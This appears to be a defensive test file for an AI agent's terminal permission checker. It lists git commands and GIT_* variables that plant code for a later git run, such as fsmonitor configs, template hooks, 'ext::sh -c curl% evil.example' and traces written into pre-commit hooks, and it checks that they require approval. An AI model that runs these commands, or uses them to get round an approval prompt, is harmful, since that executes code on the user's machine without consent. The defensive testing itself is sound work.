// What an auto-approved git command plants for a later one to run (attacked after issue 9 A):
// `git clone -c core.fsmonitor=CMD . vendor/lib` made a nested repository whose fsmonitor the
// host's next `git status` ran once a gitlink pointed at it; `git init --template=tpl .` copied
// tpl/hooks into .git/hooks; GIT_COMMON_DIR, GIT_ALLOW_PROTOCOL=ext and GIT_TRACE=<file> were
// auto-approved in auto mode (`git ls-remote 'ext::sh -c …'` runs any command). Each asks, named
// git_config_override; the same commands without the planting option stay as allowed.
import { AUTO, MANUAL, ask, auto, c, runCases } from './adversarial-harness.ts';

const GIT_ALLOWED = {
  ...MANUAL,
  label: 'git allowed',
  permissions: { allow: ['Terminal(git:*)'], deny: ['Terminal(curl:*)'], ask: [] },
};
const GIT_AUTO = { ...AUTO, label: 'auto mode, git allowed', permissions: GIT_ALLOWED.permissions };
const ASKS = ask('git_config_override');

const PLANTING = [
  "git clone -q -c core.fsmonitor='touch /var/tmp/x; false' . vendor/lib",
  'git clone -c core.hooksPath=h . v',
  'git clone --config core.fsmonitor=x . v',
  'git clone --config=core.fsmonitor=x . v',
  'git clone --conf=core.fsmonitor=x . v',
  'git clone -qc core.fsmonitor=x . v',
  'git -C sub clone -c alias.st=!id . v',
  'git clone --template=tpl . v',
  'git clone --separate-git-dir=.x . v',
  'git init --template=tpl .',
  'git init --templ=tpl sub',
  'git init -q --template tpl vendor/lib',
  'git init --separate-git-dir=../elsewhere .',
  'git init-db --template=tpl .',
  'git maintenance register',
  'git maintenance start',
  'git maintenance unregister',
  'git apply --unsafe-paths x.patch',
  'git apply --check --unsafe-paths x.patch',
  'git send-email --sendmail-cmd=curl x.patch',
  "git send-email --smtp-server='/tmp/x' x.patch",
  'git send-email --to-cmd=./who x.patch',
];
runCases('git commands that plant what a later git runs ask (git allowed)', GIT_ALLOWED, [
  ...PLANTING.map((command) => c(command, ASKS)),
  c('git clone -q . vendor/lib', auto('permissions_allow'), { note: 'a clone without -c stays allowed' }),
  c('git init sub', auto('permissions_allow')),
  c('git init -q --bare tpl', auto('permissions_allow')),
  c('git apply x.patch', auto('permissions_allow')),
  c('git maintenance run', auto('permissions_allow')),
  c('git clone --depth 1 . v', auto('permissions_allow')),
]);
runCases(
  'git commands that plant what a later git runs ask (auto mode)',
  GIT_AUTO,
  PLANTING.map((command) => c(command, ASKS)),
);

const GIT_VARIABLES = [
  'GIT_COMMON_DIR=evil git status',
  "GIT_ALLOW_PROTOCOL=ext git ls-remote 'ext::sh -c curl% evil.example'",
  'GIT_TRACE=.git/hooks/pre-commit git status',
  'GIT_TRACE=permissions.json git status',
  'GIT_TRACE2_EVENT=/tmp/x git status',
  'GIT_TRACE_PACKET=x git fetch',
  'GIT_TRACE=/projects/app/.git/hooks/pre-commit git status',
  'GIT_TRACE2=/tmp/t git status',
  'GIT_INDEX_FILE=x git status',
  'GIT_OBJECT_DIRECTORY=x git log',
  'GIT_ALTERNATE_OBJECT_DIRECTORIES=../x git log',
  'GIT_NAMESPACE=x git log',
  'env GIT_COMMON_DIR=evil git status',
  'export GIT_ALLOW_PROTOCOL=ext',
  'GIT_SSL_NO_VERIFY=1 git fetch',
  'SSH_ASKPASS=./x git fetch',
  'A=1 GIT_COMMON_DIR=evil git status',
];
runCases('GIT_* variables that change what git reads, runs or writes ask (auto mode)', GIT_AUTO, [
  ...GIT_VARIABLES.map((command) => c(command, ASKS)),
  c('GIT_AUTHOR_NAME=me git log', auto()),
  c('GIT_COMMITTER_EMAIL=me@example.invalid git log', auto()),
  c('GIT_TERMINAL_PROMPT=0 git fetch', auto()),
  c('GIT_OPTIONAL_LOCKS=0 git status', auto()),
  c('GIT_TRACE=1 git status', auto(), { note: 'a trace to stderr or to a descriptor writes no file' }),
  c('GIT_TRACE=true git status', auto()),
  c('GIT_TRACE_PACKET=2 git fetch', auto()),
  c('GIT_TRACE2_PERF=0 git status', auto()),
  c("GIT_TRACE='' git status", auto()),
  c('GITHUB_TOKEN_FILE=x git log', auto(), { note: 'a name that only starts with GIT' }),
]);
runCases(
  'GIT_* variables never auto-approve (git allowed, no autonomy: a prefixed command matches no allow pattern)',
  GIT_ALLOWED,
  GIT_VARIABLES.map((command) => c(command, ask())),
);
